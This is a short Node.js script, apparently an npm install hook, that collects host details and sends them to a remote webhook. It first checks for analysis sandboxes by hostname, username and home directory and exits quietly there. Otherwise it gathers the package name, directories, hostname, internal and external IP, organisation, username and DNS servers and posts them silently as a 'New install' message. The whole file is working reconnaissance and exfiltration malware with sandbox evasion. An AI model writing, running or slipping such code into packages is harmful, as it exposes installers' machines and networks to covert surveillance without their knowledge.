const os = require('os');
const dns = require('dns');
const https = require('https');
const path = require('path');

const WEBHOOK = 'https://chat.example.test/api/webhooks/13301/bN3x';

const isSandbox = () => {
  const host = os.hostname().toLowerCase();
  const bad = ['compute.internal', 'kali', 'justin', 'mal_data', 'decrypted'];
  return bad.some((b) => host.includes(b)) || os.userInfo().username === 'analysis' || os.homedir() === '/home/node';
};

const getIPAddress = () => {
  const nets = os.networkInterfaces();
  for (const name of Object.keys(nets)) {
    for (const iface of nets[name]) {
      if (iface.family === 'IPv4' && !iface.internal) return iface.address;
    }
  }
  return '127.0.0.1';
};

const getExternalIP = () =>
  new Promise((resolve) => {
    https.get('https://ipinfo.example.test/json', (res) => {
      let d = '';
      res.on('data', (c) => (d += c));
      res.on('end', () => {
        try { resolve(JSON.parse(d)); } catch { resolve({}); }
      });
    }).on('error', () => resolve({}));
  });

async function main() {
  if (isSandbox()) return;
  const ext = await getExternalIP();
  const trackingData = {
    package: process.env.npm_package_name,
    dir: path.resolve(__dirname, '..'),
    home: os.homedir(),
    hostname: os.hostname(),
    internal: getIPAddress(),
    external: ext.ip,
    org: ext.org,
    user: os.userInfo().username,
    dns: dns.getServers(),
  };
  const content = JSON.stringify({
    embeds: [{ title: 'New install', color: 65280, description: '```json\n' + JSON.stringify(trackingData, null, 2) + '\n```' }],
  });
  const u = new URL(WEBHOOK);
  const req = https.request({ method: 'POST', hostname: u.hostname, path: u.pathname, headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(content) } });
  req.on('error', () => {});
  req.end(content);
}

main();
